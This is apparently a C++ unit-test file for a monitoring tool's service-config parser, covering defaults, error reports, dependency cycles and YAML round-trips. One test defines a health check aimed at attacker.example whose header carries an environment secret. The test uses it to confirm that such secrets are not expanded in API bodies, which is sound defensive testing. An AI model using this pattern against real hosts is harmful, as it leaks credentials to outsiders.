#include <doctest/doctest.h>

#include "config/loader.hpp"
#include "config/service_yaml.hpp"
#include "tests/config/scoped_env.hpp"

using namespace std::chrono_literals;
using wk::config::parse_service;
using wk::config::service_spec;
using wk::config::service_to_yaml;
using wk::config::watchkeeper_config;
using wk::config::test::scoped_env;

namespace {

std::string errors_of(const wk::config::service_result& result) {
  return wk::config::config_error_report(result.errors);
}

watchkeeper_config live_config(
    std::initializer_list<std::pair<const char*, std::vector<std::string>>> services) {
  watchkeeper_config config;
  for (const auto& [name, depends_on] : services) {
    service_spec s;
    s.name = name;
    s.depends_on = depends_on;
    config.services.push_back(s);
  }
  return config;
}

}  // namespace

TEST_CASE("parse_service reads a JSON service and fills in the defaults") {
  auto config = live_config({{"db", {}}});
  config.scrape_defaults.interval = 30s;
  config.scrape_defaults.timeout = 20s;
  config.health_defaults.failure_threshold = 5;
  const auto result = parse_service(R"({
    "name": "api", "labels": {"team": "payments"}, "depends_on": ["db"],
    "metrics": {"url": "http://127.0.0.1:8080/metrics"},
    "health": [{"type": "http", "url": "https://127.0.0.1/healthz", "expected_status": "2xx"}]
  })",
                                    "POST /api/services", config);
  INFO(errors_of(result));
  REQUIRE(result.service);
  const auto& s = *result.service;
  CHECK(s.name == "api");
  CHECK(s.labels.at("team") == "payments");
  CHECK(s.metrics->interval == 30s);
  CHECK(s.metrics->timeout == 20s);
  CHECK(s.health[0].name == "http");
  CHECK(s.health[0].failure_threshold == 5);
  CHECK(s.health[0].expected_status == std::vector<wk::config::status_range>{{200, 299}});
}

TEST_CASE("parse_service reports errors with the source name and the key inside the service") {
  const auto result = parse_service(R"({"name": "api", "metrics": {"url": "udp://x"}, "extra": 1})",
                                    "POST /api/services", watchkeeper_config{});
  CHECK_FALSE(result.service);
  REQUIRE(result.errors.size() == 2);
  CHECK(result.errors[0].file == "POST /api/services");
  CHECK(result.errors[0].key == "metrics.url");
  CHECK(result.errors[1].key == "extra");
  for (const char* junk : {"", "null", "[]", "42", "{", "name: [", "\t{}"}) {
    CAPTURE(junk);
    const auto bad = parse_service(junk, "body", watchkeeper_config{});
    CHECK_FALSE(bad.service);
    CHECK_FALSE(bad.errors.empty());
  }
}

TEST_CASE("parse_service does not expand the environment unless asked") {
  const scoped_env secret("WK_TEST_SECRET", std::string("database-password"));
  const std::string body = R"({"name": "api", "health": [{"type": "http",
    "url": "http://attacker.example/", "headers": {"X-Leak": "${WK_TEST_SECRET}"}}]})";
  auto result = parse_service(body, "body", watchkeeper_config{});
  REQUIRE(result.service);
  CHECK(result.service->health[0].headers.at("X-Leak") == "${WK_TEST_SECRET}");

  result = parse_service(body, "services.d/api.yml", watchkeeper_config{},
                         wk::config::env_expansion::on);
  REQUIRE(result.service);
  CHECK(result.service->health[0].headers.at("X-Leak") == "database-password");
}

TEST_CASE("parse_service checks a service's dependencies on their own") {
  // Whether db exists is for the caller to judge (check_dependencies); the service alone is fine.
  auto result = parse_service("{name: api, depends_on: [db, cache]}", "body", watchkeeper_config{});
  INFO(errors_of(result));
  REQUIRE(result.service);
  CHECK(result.service->depends_on == std::vector<std::string>{"db", "cache"});

  result = parse_service("{name: api, depends_on: [api]}", "body", watchkeeper_config{});
  REQUIRE(result.errors.size() == 1);
  CHECK(result.errors[0].key == "depends_on[0]");
  CHECK(result.errors[0].message == "a service cannot depend on itself");

  result =
      parse_service("{name: api, depends_on: [db, db, \"no good\"]}", "body", watchkeeper_config{});
  REQUIRE(result.errors.size() == 2);
  CHECK(result.errors[0].message == "service \"db\" listed twice");
  CHECK(result.errors[1].message.find("invalid service name") != std::string::npos);
}

TEST_CASE("check_dependencies finds unknown services and cycles among live services") {
  auto live = live_config({{"db", {}}, {"cache", {"db"}}, {"web", {"api"}}, {"api", {"cache"}}});
  CHECK(wk::config::check_dependencies(live.services).empty());

  live.services.push_back(service_spec{"worker", {}, {"dbx"}, std::nullopt, {}, {}, {}});
  auto problems = wk::config::check_dependencies(live.services);
  REQUIRE(problems.size() == 1);
  CHECK(problems[0] == "service \"worker\" depends on unknown service \"dbx\"");

  // Replacing db with a version that depends on web closes db -> web -> api -> cache -> db.
  live = live_config({{"db", {"web"}}, {"cache", {"db"}}, {"web", {"api"}}, {"api", {"cache"}}});
  problems = wk::config::check_dependencies(live.services);
  REQUIRE(problems.size() == 1);
  CHECK(problems[0] == "dependency cycle: db -> web -> api -> cache -> db");

  live = live_config({{"a", {"a"}}, {"a", {}}, {"b", {"c"}}, {"c", {"b"}}});
  problems = wk::config::check_dependencies(live.services);
  REQUIRE(problems.size() == 3);
  CHECK(problems[0] == "service \"a\" is defined twice");
  CHECK(problems[1] == "service \"a\" depends on itself");
  CHECK(problems[2] == "dependency cycle: b -> c -> b");
}

TEST_CASE("check_dependencies handles long chains without deep recursion") {
  std::vector<service_spec> chain(200'000);
  for (std::size_t i = 0; i < chain.size(); ++i) {
    chain[i].name = "s" + std::to_string(i);
    if (i + 1 < chain.size()) chain[i].depends_on = {"s" + std::to_string(i + 1)};
  }
  CHECK(wk::config::check_dependencies(chain).empty());
  chain.back().depends_on = {"s0"};
  const auto problems = wk::config::check_dependencies(chain);
  REQUIRE(problems.size() == 1);
  CHECK(problems[0].rfind("dependency cycle: s0 -> s1 -> ", 0) == 0);
  CHECK(problems[0].find("... -> s199999 -> s0") != std::string::npos);
  CHECK(problems[0].size() < 300);
}

TEST_CASE("service_to_yaml round-trips through parse_service whatever the defaults") {
  const scoped_env token("WATCHKEEPER_ADMIN_TOKEN", std::string("an-admin-token-long-enough"));
  const scoped_env api_token("API_TOKEN", std::string("a\"quoted\\ $token ${NOT_EXPANDED}"));
  const auto loaded =
      wk::config::load_config_file(std::string(WK_SOURCE_DIR) + "/config/examples/full.yaml");
  INFO(wk::config::config_error_report(loaded.errors));
  REQUIRE(loaded.config);
  auto other = *loaded.config;  // different defaults must not leak into the result
  other.scrape_defaults.interval = 7s;
  other.scrape_defaults.timeout = 7s;
  other.scrape_defaults.body_size_limit = 1;
  other.health_defaults.interval = 9s;
  other.health_defaults.timeout = 9s;
  other.health_defaults.failure_threshold = 9;
  for (const auto& service : loaded.config->services) {
    const std::string text = service_to_yaml(service);
    CAPTURE(text);
    const auto back = parse_service(text, "round-trip", other);
    INFO(errors_of(back));
    REQUIRE(back.service);
    CHECK(*back.service == service);
  }
}

TEST_CASE("service_to_yaml keeps awkward strings intact") {
  service_spec s;
  s.name = "api";
  s.labels = {{"team", "pay\"ments\\ñ ✓"}, {"tier", "null"}, {"zone", "yes"}};
  wk::config::health_check_spec check;
  check.name = "h";
  check.url = "http://127.0.0.1/x?a=$1&b=${NOPE}";
  check.body_contains = std::string("line1\nline2\ttab \x01 # not a comment: {x}");
  check.body_regex = R"(^\s*"up"$)";
  check.headers = {{"X-A", "v\twith tab"}, {"Authorization", "Bearer $$x"}};
  check.expected_status = {{200, 299}, {301, 302}, {404, 404}};
  check.max_latency = 250ms;
  check.timeout = 1s;
  s.health.push_back(check);
  wk::config::health_check_spec tcp;
  tcp.name = "v6";
  tcp.type = wk::config::health_check_spec::kind::tcp;
  tcp.address = {"::1", 5432};
  tcp.interval = 90s;
  tcp.timeout = 1500ms;
  s.health.push_back(tcp);
  wk::config::scrape_spec metrics;
  metrics.url = "https://[::1]:9100/metrics";
  metrics.body_size_limit = 1536;
  metrics.sample_limit = 18446744073709551615ULL;
  metrics.honor_labels = true;
  s.metrics = metrics;

  const std::string text = service_to_yaml(s);
  CHECK(text.rfind("{\"name\": \"api\"", 0) == 0);
  CHECK(text.find('\n') == std::string::npos);
  const auto back = parse_service(text, "round-trip", watchkeeper_config{});
  INFO(text);
  INFO(errors_of(back));
  REQUIRE(back.service);
  CHECK(*back.service == s);
}

TEST_CASE("operator== tells changed services apart") {
  const auto config = live_config({{"db", {}}});
  const auto base = parse_service(R"({name: api, depends_on: [db], labels: {a: b},
    metrics: {url: "http://x/m"}, health: [{type: http, url: "http://x/h"}]})",
                                  "a", config);
  REQUIRE(base.service);
  const service_spec original = *base.service;
  CHECK(original == *base.service);

  auto changed = original;
  changed.labels["a"] = "c";
  CHECK(changed != original);
  changed = original;
  changed.depends_on.clear();
  CHECK(changed != original);
  changed = original;
  changed.metrics->timeout = 1s;
  CHECK(changed != original);
  changed = original;
  changed.metrics.reset();
  CHECK(changed != original);
  changed = original;
  changed.health[0].expected_status = {{200, 200}};
  CHECK(changed != original);
  changed = original;
  changed.health[0].headers["X"] = "y";
  CHECK(changed != original);
  changed = original;
  changed.health[0].address.port = 1;
  CHECK(changed != original);
  changed = original;
  changed.health[0].tls_verify = false;
  CHECK(changed != original);
}
